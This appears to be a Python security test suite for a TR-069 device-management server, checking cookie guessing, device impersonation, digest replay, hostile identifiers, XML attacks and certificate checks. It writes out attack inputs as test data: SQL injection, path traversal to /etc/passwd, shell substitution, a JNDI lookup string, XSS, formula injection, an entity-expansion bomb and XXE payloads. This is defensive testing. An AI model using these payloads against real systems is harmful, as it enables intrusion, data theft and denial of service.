"""Attacks with messages: stolen and guessed identities, replays, hostile XML, hostile names."""
import os
import re
import secrets
import socket
import ssl
import subprocess
import threading
import time

from wire import Connection, ENVELOPE, XML, digest, inform


def guessed_cookies_open_nothing(target):
    """A thousand cookies of the right form, with an empty POST and with an answer that somebody may wait for."""
    answer = ENVELOPE % "<cwmp:GetParameterValuesResponse><ParameterList></ParameterList></cwmp:GetParameterValuesResponse>"
    victim, held = target.greet(inform("VICTIM"))
    cookie = re.search(r"session=(\w+)", victim.header("Set-Cookie"))[1]
    assert victim.status == 200
    connection = Connection(target.plain)
    for number in range(1000):
        guess = cookie[:3] + secrets.token_hex(40)[: len(cookie) - 3]
        reply = connection.ask(b"" if number % 2 else answer.encode(), [XML, ("Cookie", f"session={guess}")])
        if reply is None or reply.header("Connection") == "close":
            connection = Connection(target.plain)
        assert reply is None or reply.status in (400, 401, 503), (number, reply)
        assert not (reply and re.search(rb"<\w+:?(Get|Set|Reboot|Download)", reply.body)), reply
    assert held.ask(b"", [XML]).status in (200, 204), "the victim's session goes on"
    held.close()


def a_device_cannot_inform_as_another(target):
    """The login of one device with the serial number of another: refused, and the other one is not touched."""
    target.inform("HONEST")
    target.inform("LIAR")
    target.give_login("LIAR", "liar", "lies-have-short-legs")
    target.give_login("HONEST", "honest", "truth-will-out")
    before = target.query("SELECT informs FROM device_contact JOIN public.device USING (device_id) WHERE serial_number = 'HONEST'")
    answer, _ = target.greet(inform("HONEST", values=[("InternetGatewayDevice.DeviceInfo.ProvisioningCode", "stolen")]), "liar",
                             "lies-have-short-legs")
    assert answer.status in (401, 403, 503), answer
    answer, _ = target.greet(inform("LIAR"), "liar", "lies-have-short-legs")
    assert answer.status == 200, answer
    assert before == target.query("SELECT informs FROM device_contact JOIN public.device USING (device_id) WHERE serial_number = 'HONEST'")
    assert target.query("SELECT count(*) FROM device_contact WHERE provisioning_code = 'stolen'") == "0"
    assert "session.wrong_login" in target.log()


def a_replayed_digest_is_stale(target):
    """Who heard one Inform sends it again, at once and on other connections: never taken a second time."""
    message = inform("REPLAYED")
    connection = Connection(target.plain)
    login = digest(target.challenge(connection), target.username, target.password)
    assert connection.ask(message, [XML, ("Authorization", login)]).status == 200
    connection.close()
    informs = "SELECT informs FROM device_contact JOIN public.device USING (device_id) WHERE serial_number = 'REPLAYED'"
    before = target.query(informs)
    for _ in range(5):
        again = Connection(target.plain)
        answer = again.ask(message, [XML, ("Authorization", login)])
        assert answer.status == 401, answer
        again.close()
    other = Connection(target.plain)
    changed = login.replace("nc=00000001", "nc=00000002")
    assert other.ask(message, [XML, ("Authorization", changed)]).status in (401, 503), "a count that nobody computed"
    assert target.query(informs) == before


def an_invented_nonce_is_refused(target):
    for nonce in ("", "0" * 56, "A" * 100_00, "%s%n", "../" * 10):
        connection = Connection(target.plain)
        challenge = f'Digest realm="acs", nonce="{nonce or "x"}", qop="auth"'
        answer = connection.ask(inform("NONCE"), [XML, ("Authorization", digest(challenge, target.username, target.password))])
        assert answer is None or answer.status in (400, 401, 431, 503), (nonce, answer)


HOSTILE_NAMES = ["../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "a\r\nSet-Cookie: session=evil\r\n\r\n", "%0d%0aX-Evil:%201",
                 "'; DROP TABLE device; --", "' OR '1'='1", "\\'; SELECT pg_sleep(10); --", "$(reboot)", "`reboot`", "{{7*7}}", "${jndi:ldap://evil}",
                 "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3",
                 "\x1b[2J\x1b[31mred", "\u202eevil", "a\u0000b", "\ufeff", "\ud800", "*", "%", "_", "a/b?c#d", "." * 64, "-" * 20, " ", "\t", "N" * 64]


def hostile_names_stay_names(target):
    """Identifiers that are paths, headers, SQL, markup, formulas: kept as texts or refused, and never obeyed."""
    lines = len(target.log().splitlines())
    for number, name in enumerate(HOSTILE_NAMES):
        body = inform(name, product_class=name, oui="00D09E").replace(b"\x00", b"&#0;").replace(b"\x1b", b"&#27;")
        answer, connection = target.greet(body)
        assert answer is None or answer.status in (200, 400, 401, 403, 503), (name, answer)
        if answer is not None:
            assert not any("evil" in f"{key}{value}".lower() for key, value in answer.headers), (name, answer)
        connection.close()
        assert target.is_alive(), name
    assert int(target.query("SELECT count(*) FROM public.device")) > 3, "somebody dropped the table"
    shown = target.api_call("GET", "/api/v1/devices?limit=1000")
    assert shown.status == 200, shown
    assert shown.header("Content-Type").startswith("application/json") and shown.header("X-Content-Type-Options") == "nosniff", shown
    import json
    for device in json.loads(shown.body)["items"]:
        assert re.fullmatch(r"[A-Za-z0-9%._~-]+", device["id"]), device["id"]
        one = target.api_call("GET", "/api/v1/devices/" + device["id"])
        assert one.status == 200 and json.loads(one.body)["id"] == device["id"], one
    for line in target.log().splitlines()[lines:]:
        assert re.match(r"\d{4}-\d\d-\d\dT", line), f"a forged line: {line!r}"
        assert "\x1b" not in line, f"a terminal would obey: {line!r}"


def markup_and_formulas_in_ssids_stay_texts(target):
    """A network name that is a page, a formula or a terminal command reaches people as the text it is."""
    root = "InternetGatewayDevice.LANDevice.1.WLANConfiguration."
    names = ["<img src=x onerror=alert(1)>", "=cmd|' /C calc'!A0", "&#27;]0;owned&#7;", "</script><script>alert(1)</script>"]
    values = [(f"{root}{i}.SSID", name.replace("&#", "\0").replace("&", "&amp;").replace("<", "&lt;").replace("\0", "&#")) for i, name in enumerate(names, 1)]
    answer, connection = target.greet(inform("SSIDS", values=values, raw=True))
    assert answer is None or answer.status in (200, 400), answer
    connection.close()
    if answer.status == 400:  # control characters are no XML: without them
        values = values[:2] + values[3:]
        assert target.greet(inform("SSIDS", values=values, raw=True))[0].status == 200
    shown = target.api_call("GET", "/api/v1/devices/00D09E-Attacked-SSIDS/parameters?limit=1000")
    assert shown.status == 200 and shown.header("Content-Type").startswith("application/json"), shown
    assert shown.header("X-Content-Type-Options") == "nosniff", shown
    for command in (["parameters", "00D09E-Attacked-SSIDS"], ["device", "00D09E-Attacked-SSIDS"], ["devices"]):
        told = subprocess.run([target.acsctl, "--server", f"http://127.0.0.1:{target.api}", "--token", target.token, *command],
                              capture_output=True)
        assert b"\x1b" not in told.stdout and b"\x07" not in told.stdout, told.stdout


def hostile_xml_is_refused_quickly(target):
    """Bombs of entities, outside documents, depth, width, wrong encodings: 400 in no time, and no file or host is asked."""
    canary = socket.socket()
    canary.bind(("127.0.0.1", 0))
    canary.listen()
    asked = []
    threading.Thread(target=lambda: asked.append(canary.accept()), daemon=True).start()
    url = f"http://127.0.0.1:{canary.getsockname()[1]}/"
    good = inform("XML").decode()
    body = good.split("?>", 1)[1]
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    hostile = {
        "entities": f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">{laughs}]>' + body.replace("Evil", "&l9;"),
        "outside file": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + body.replace("Evil", "&x;"),
        "outside host": f'<?xml version="1.0"?><!DOCTYPE a SYSTEM "{url}">' + body,
        "parameter entity": f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "{url}"> %p;]>' + body,
        "include": body.replace("Evil", f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}"/>'),
        "depth": "<a>" * 100_000,
        "depth in body": ENVELOPE % ("<b>" * 5000 + "</b>" * 5000),
        "attributes": "<a " + " ".join(f'b{i}=""' for i in range(200_000)) + "/>",
        "namespaces": "<a " + " ".join(f'xmlns:n{i}="u{i}"' for i in range(100_000)) + "/>",
        "a long name": f"<{'n' * 2_000_000}/>",
        "no end": body[: len(body) // 2],
        "two roots": body + body,
        "utf-16": good.replace("UTF-8", "UTF-16"),
        "a script": good.replace("<?xml", "<?xml-stylesheet href='x'?><?xml"),
        "arrays that lie": body.replace("EventStruct[1]", "EventStruct[2147483647]"),
        "negative arrays": body.replace("EventStruct[1]", "EventStruct[-1]"),
        "href loops": body.replace("Evil", '<x href="#a" id="a"/>'),
        "numbers": body.replace("<MaxEnvelopes>1<", "<MaxEnvelopes>99999999999999999999999<"),
        "comments": body.replace("Evil", "<!--" + "-" * 1_000_000 + "-->"),
        "cdata": body.replace("Evil", "<![CDATA[" + "]]" * 500_000 + "]]>"),
        "json": '{"Inform":{}}',
        "nothing": "\0" * 1000,
        "bytes": None,
    }
    for name, text in hostile.items():
        data = os.urandom(100_000) if text is None else text.encode()
        began = time.monotonic()
        answer, connection = target.greet(data)
        took = time.monotonic() - began
        assert answer is None or answer.status in (200, 400, 401, 413, 503), (name, answer)
        assert took < 20, f"{name} took {took} s"
        assert answer is None or b"root:" not in answer.body
        connection.close()
    assert not asked, "the server followed a URL of a document"
    assert target.query("SELECT count(*) FROM device_contact c JOIN public.device d USING (device_id) WHERE d.manufacturer LIKE '%root:%'") == "0"
    assert target.is_alive()


def a_crowded_inform_is_bounded(target):
    """A hundred thousand values or events in one Inform: refused or heard, within memory and time."""
    before = target.resident_kb()
    many = [(f"InternetGatewayDevice.X_EVIL.{i}", "v") for i in range(100_000)]
    answer, connection = target.greet(inform("CROWD", values=many))
    assert answer is None or answer.status in (200, 400, 413, 503), answer
    connection.close()
    answer, connection = target.greet(inform("CROWD", events=["2 PERIODIC"] * 50_000))
    assert answer is None or answer.status in (200, 400, 413, 503), answer
    connection.close()
    assert int(target.query("SELECT count(*) FROM path WHERE path LIKE '%X_EVIL%'")) <= 20_000, "paths of one device are bounded"
    assert target.resident_kb() - before < target.inflation * 200 * 1024


def certificates_say_who_may_speak(target):
    """Mutual TLS: without a certificate, with one of another authority, with another device's, and with one's own."""
    def outcome(certificate, serial, port=target.mutual):
        try:
            connection = Connection(port, target.trusting(certificate))
            answer = connection.ask(inform(serial), [XML])
            connection.close()
            return answer and answer.status
        except (ssl.SSLError, OSError):
            return None

    assert outcome(None, "CERTIFIED") is None
    assert outcome(target.folder + "/stranger", "CERTIFIED") is None
    assert outcome(target.folder + "/certified", "OTHER") in (401, 403)
    assert outcome(target.folder + "/certified", "CERTIFIED") == 200
    # Where client_subject says how certificates name devices, no other form counts, and no text that only looks like it.
    assert outcome(target.folder + "/named", "NAMED", target.named) == 200
    assert outcome(target.folder + "/named", "OTHER", target.named) in (401, 403, 503)
    assert outcome(target.folder + "/certified", "CERTIFIED", target.named) in (401, 403, 503)
    assert outcome(target.folder + "/pretending", "NAMED", target.named) in (401, 403, 503)
    assert outcome(target.folder + "/named", "NAMED") in (401, 403, 503)
    assert target.query("SELECT state FROM public.device WHERE serial_number = 'NAMED'") == "active"
